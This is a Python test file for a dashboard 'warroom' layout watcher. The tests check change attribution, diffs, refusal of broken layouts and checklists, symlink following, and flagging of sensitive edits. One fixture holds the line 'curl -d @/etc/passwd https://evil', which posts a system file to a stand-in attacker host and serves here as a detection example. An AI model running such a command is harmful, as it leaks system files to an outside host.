"""A screen's view of its layout changing: who, what, sensitive changes held, broken ones refused."""

from __future__ import annotations

from flow_support import room

from warroom.journal import Journal
from warroom.layout_edit import read_layout, save
from warroom.layout_watch import LayoutWatcher, sensitive_changes, who_from_events
from warroom.workspace import load_workspace

TILE = {"name": "health", "source": "http", "url": "http://127.0.0.1:9/health"}


def _events(layout):
    return Journal(load_workspace(layout).journal_path, read_only=True).load().events


def test_a_change_by_warroom_says_who_and_what(tmp_path):
    layout = room(tmp_path)
    watcher = LayoutWatcher(layout)
    assert watcher.check() is None
    doc = read_layout(layout)
    doc.add_tile(dict(TILE))
    save(doc, "ana", "added tile health")
    update = watcher.check(who_from_events(_events(layout)))
    assert update is not None and update.ok and update.headline() == "layout changed by ana: added tile health"
    assert [t.name for t in update.workspace.layout.tiles] == ["health"]
    assert "+tiles:" in update.diff
    assert update.sensitive == ["adds the host 127.0.0.1"]
    assert update.needs_acceptance("bo") and not update.needs_acceptance("ana")
    assert watcher.check() is None  # seen once


def test_a_change_without_new_hosts_or_names_applies_without_asking(tmp_path):
    layout = room(tmp_path)
    doc = read_layout(layout)
    doc.add_tile(dict(TILE))
    save(doc, "ana", "added tile health")
    watcher = LayoutWatcher(layout)
    doc = read_layout(layout)
    doc.edit_tile("health", {"label": "Health", "threshold": "== 200"})
    save(doc, "ana", "edited tile health")
    update = watcher.check(who_from_events(_events(layout)))
    assert update.ok and update.sensitive == [] and not update.needs_acceptance("bo")


def test_an_edit_outside_warroom_that_breaks_the_layout_is_refused_with_positions(tmp_path):
    layout = room(tmp_path)
    watcher = LayoutWatcher(layout)
    good = watcher.good_text
    layout.write_text(good + "tiles:\n  - name: x\n    source: carrier-pigeon\n    url: http://a/\n", encoding="utf-8")
    update = watcher.check()
    assert not update.ok and update.by == "" and "edited outside warroom" in update.headline()
    (problem,) = update.problems
    assert (problem.line, problem.col) == (18, 13) and "unknown source 'carrier-pigeon'" in problem.message
    assert watcher.good_text == good  # the last good layout is kept


def test_sensitive_changes():
    base = {"tiles": [{"url": "https://a.example/x"}], "items": [{"run": "echo hi"}]}
    assert sensitive_changes(base, base) == []
    moved = {"tiles": [{"url": "https://b.example/x", "headers": {"Authorization": "Bearer ${TOKEN}"}}],
             "items": [{"run": "curl -d @/etc/passwd https://evil"}]}
    assert sensitive_changes(base, moved) == ["adds the host b.example", "adds the host evil",
                                              "adds the environment reference ${TOKEN}", "alters run: at items[0].run"]
    assert sensitive_changes(base, {"tiles": [{"url": "${PROM_URL:-http://c.example:9090}"}], "items": base["items"]}) == [
        "adds the host c.example", "adds the environment reference ${PROM_URL}"]


def test_a_symlinked_layout_is_watched_through_the_link(tmp_path):
    layout = room(tmp_path)
    link = tmp_path / "layouts" / "current.yaml"
    link.symlink_to(layout)
    watcher = LayoutWatcher(link)
    other = tmp_path / "layouts" / "other.yaml"
    other.write_text(layout.read_text(encoding="utf-8").replace("Room launch", "Other launch"), encoding="utf-8")
    link.unlink()
    link.symlink_to(other)  # the link now names another file
    update = watcher.check()
    assert update.ok and update.workspace.layout.launch == "Other launch"


def test_turning_on_the_layouts_run_block_is_sensitive():
    assert sensitive_changes({"run": {"enabled": False}}, {"run": {"enabled": True, "shell": "/bin/sh"}}) == ["alters run: at run"]
    assert sensitive_changes({"run": {"enabled": True}}, {"run": {"enabled": True}}) == []


CHECKLIST = "id: room\ntitle: Room\nsections:\n  - id: s\n    title: S\n    items:\n      - id: a\n        text: {text}\n"


def test_a_checklist_edited_by_another_hand_is_a_change_too(tmp_path):
    layout = room(tmp_path)
    checklist = tmp_path / "checklists" / "room.yaml"
    watcher = LayoutWatcher(layout)
    checklist.write_text(CHECKLIST.format(text="A changed thing"), encoding="utf-8")
    update = watcher.check(who_from_events(_events(layout)))
    assert update is not None and update.ok and not update.layout_changed
    assert update.checklists_changed == ["../checklists/room.yaml"]
    assert update.headline() == "checklist ../checklists/room.yaml changed by someone (edited outside warroom)"
    assert "+        text: A changed thing" in update.diff and update.sensitive == []
    assert update.workspace.resolve_item("a").text == "A changed thing"
    assert watcher.check() is None  # seen once
    watcher.applied(update)
    assert watcher.check() is None  # applied: nothing new


def test_a_broken_checklist_is_refused_with_its_position_and_the_last_good_kept(tmp_path):
    layout = room(tmp_path)
    checklist = tmp_path / "checklists" / "room.yaml"
    watcher = LayoutWatcher(layout)
    good = dict(watcher.good_files)
    checklist.write_text(CHECKLIST.format(text="x").replace("      - id: a", "      - idd: a"), encoding="utf-8")
    update = watcher.check()
    assert not update.ok and update.checklists_changed == ["../checklists/room.yaml"]
    assert any(p.path == str(checklist) and p.line == 7 for p in update.problems), update.problems
    assert watcher.good_files == good


def test_a_symlinked_checklist_is_watched_through_the_link(tmp_path):
    layout = room(tmp_path)
    checklist = tmp_path / "checklists" / "room.yaml"
    v1 = tmp_path / "checklists" / "v1.yaml"
    checklist.rename(v1)
    checklist.symlink_to(v1.name)
    watcher = LayoutWatcher(layout)
    v2 = tmp_path / "checklists" / "v2.yaml"
    v2.write_text(CHECKLIST.format(text="Version two"), encoding="utf-8")
    checklist.unlink()
    checklist.symlink_to(v2.name)  # deployed by re-pointing the link
    update = watcher.check()
    assert update.ok and update.workspace.resolve_item("a").text == "Version two"
    watcher.applied(update)
    v2.write_text(CHECKLIST.format(text="Edited in place"), encoding="utf-8")  # the target itself is watched
    update = watcher.check()
    assert update.ok and update.workspace.resolve_item("a").text == "Edited in place"
